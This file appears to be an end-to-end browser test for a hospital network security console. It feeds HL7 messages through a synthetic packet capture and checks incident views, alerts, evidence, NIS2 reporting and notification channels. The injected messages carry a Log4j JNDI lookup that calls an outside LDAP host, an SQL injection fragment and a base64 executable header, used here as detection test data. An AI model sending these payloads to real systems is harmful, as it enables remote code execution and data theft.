import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bytes } from '../../packages/wire/src/testing/bytes.ts';
import { conversationsCapture } from '../../packages/wire/src/testing/conversation-capture.ts';
import { client, server } from '../../packages/wire/src/testing/play.ts';
import { accessibilityViolations } from './accessibility.ts';
import { consoleOfThisFile, follow } from './console-user.ts';

const PICTURES = process.env.SPHINX_TEST_SCREENSHOTS;
const { console, page, folder } = await consoleOfThisFile();

async function picture(name: string): Promise<void> {
  if (PICTURES !== undefined) await page.screenshot({ path: join(PICTURES, `${name}.png`), fullPage: true });
}

const message = (...segments: string[]) =>
  client(bytes(`\x0bMSH|^~\\&|HIS|KH|LIS|KH|20260401||ORU^R01|1|P|2.5\r${segments.join('\r')}\r\x1c\r`));
const ACCEPTED = server(bytes('\x0bMSH|^~\\&|LIS|KH|HIS|KH|20260401||ACK|1|P|2.5\rMSA|AA|1\r\x1c\r'));

/** Somebody on the network attacks an interface engine through the messages that it takes. */
async function attackEngine(): Promise<void> {
  const ends = { clientIp: '10.0.0.66', serverIp: '10.0.0.20', clientPort: 40_000, serverPort: 2575 };
  const turns = [
    message(`OBX|1|ST|1||${'$'}{jndi:ldap://203.0.113.9/a}`),
    ACCEPTED,
    message("OBX|1|ST|1||' or 1=1; union select name"),
    ACCEPTED,
    message('OBX|1|ED|1||^application^octet^Base64^TVqQAAMAAAAEAAAA'),
    ACCEPTED,
  ];
  const capture = join(folder, 'engine.pcap');
  await writeFile(capture, conversationsCapture([{ ends, turns }]));
  await follow(page, '/sources');
  await page.getByLabel('Capture files').setInputFiles(capture);
  await page.getByRole('row', { name: 'engine.pcap' }).getByText('Finished').waitFor();
}

describe('incidents, in a real browser', () => {
  it('say that nobody has to look at anything, and appear in an open window as they happen', async () => {
    const watching = await console.newWindow();
    await watching.goto(`${console.program.url}/incidents`);
    await watching.getByRole('heading', { name: 'Nobody has to look at anything' }).waitFor();
    await attackEngine();
    await watching.getByRole('row', { name: /INC-1.*10\.0\.0\.66/ }).waitFor();
    await watching.close();
  });

  it('tell what happened, why it is shown and what it is made of', async () => {
    await follow(page, '/incidents');
    await page.getByRole('row', { name: /INC-1/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incidents');
    await page.getByRole('link', { name: /10\.0\.0\.66 against/ }).click();
    await page.getByRole('heading', { name: 'What happened' }).waitFor();
    await page
      .getByText(/points from \d kinds of signals/)
      .first()
      .waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-story');
    await page.getByRole('tab', { name: 'Alerts' }).click();
    await page.getByRole('row', { name: /look-up of Log4j/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-alerts');
  });

  it('show the time line, who had to do with whom, what proves it, and what authorities would be told', async () => {
    await page.getByRole('tab', { name: 'Time line' }).click();
    await page
      .getByRole('row', { name: /look-up of Log4j/ })
      .first()
      .waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-timeline');
    await page.getByRole('tab', { name: 'Graph' }).click();
    const graph = page.getByRole('table', { name: /Who had to do with whom/ });
    await graph.getByRole('row', { name: /10\.0\.0\.66.*10\.0\.0\.20/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-graph');
    await page.getByRole('tab', { name: 'Evidence' }).click();
    const evidence = page.getByRole('table', { name: /Evidence/ });
    await evidence.getByRole('row', { name: /Detections and alerts of the incident/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-evidence');
    await page.getByRole('tab', { name: 'Authorities' }).click();
    await page.getByRole('heading', { name: /NIS2.*Early warning/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-authorities');
  });

  it('can be looked at in a sample hospital, which goes away again', async () => {
    const incident = page.url();
    await follow(page, '/incidents');
    await page.getByRole('button', { name: 'Load the sample hospital' }).click();
    await page
      .getByRole('row', { name: /Sample.*icu-monitor/ })
      .first()
      .waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incidents-sample');
    await page.getByRole('button', { name: 'Remove the sample hospital' }).click();
    await page.getByRole('button', { name: 'Load the sample hospital' }).waitFor();
    await page.getByRole('row', { name: /Sample/ }).waitFor({ state: 'detached' });
    await page.getByRole('row', { name: /INC-1/ }).waitFor();
    await page.goto(incident);
    await page.getByRole('heading', { name: /INC-1/ }).waitFor();
  });

  it('are told over channels that can be added and tried', async () => {
    const incident = page.url();
    await follow(page, '/notifications');
    await page.getByRole('button', { name: 'Add a channel' }).first().click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Night shift');
    await dialog.getByRole('combobox', { name: 'Kind' }).click();
    await page.getByRole('option', { name: 'Webhook' }).click();
    await dialog.getByLabel('Address').fill('http://127.0.0.1:1/');
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('notification-channel');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('button', { name: 'Test Night shift' }).click();
    await page.getByText(/Not told: it could not be reached/).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('notifications');
    await page.getByRole('button', { name: 'Add a channel' }).first().click();
    await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Mail of the house');
    await dialog.getByLabel('Mail server').fill('mail.hospital.example');
    await dialog.getByRole('textbox', { name: 'From', exact: true }).fill('sphinx@hospital.example');
    await dialog.getByLabel('To, parted by commas').fill('security@hospital.example');
    await dialog.getByRole('button', { name: 'Add a shift' }).click();
    await dialog.getByLabel('Name of shift 1').fill('Night');
    await dialog.getByLabel('Mail address of shift 1').fill('night@hospital.example');
    await dialog.getByRole('checkbox', { name: 'Quiet hours' }).click();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('notification-on-call');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Change Mail of the house' }).click();
    expect(await dialog.getByLabel('Mail address of shift 1').inputValue()).toBe('night@hospital.example');
    await page.goto(incident);
    await page.getByRole('heading', { name: /INC-1/ }).waitFor();
  });

  it('are taken, commented, checked and closed, and teach', async () => {
    await page.getByRole('button', { name: 'I take it' }).click();
    await page.getByLabel('Comment').fill('The ward was called');
    await page.getByRole('button', { name: 'Comment' }).click();
    await page.getByRole('tab', { name: 'Checklist' }).click();
    await page.getByRole('checkbox', { name: /Name who answers/ }).click();
    await page.getByText(/done by/).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incident-checklist');
    await page.getByRole('tab', { name: 'Story' }).click();
    await page.getByRole('row', { name: /The ward was called/ }).waitFor();
    await page.getByRole('button', { name: 'Close', exact: true }).click();
    await page.getByRole('combobox', { name: 'What was it?' }).click();
    await page.getByRole('option', { name: 'It happened and was allowed' }).click();
    await page.getByRole('button', { name: 'Close the incident' }).click();
    await page.getByRole('button', { name: 'Open again' }).waitFor();
    await follow(page, '/incidents?view=learnt');
    await page.getByRole('row', { name: /look-up of Log4j.*harmless/ }).waitFor();
    expect(await accessibilityViolations(page)).toEqual([]);
    await picture('incidents-learnt');
    expect(console.faults).toEqual([]);
  });
});
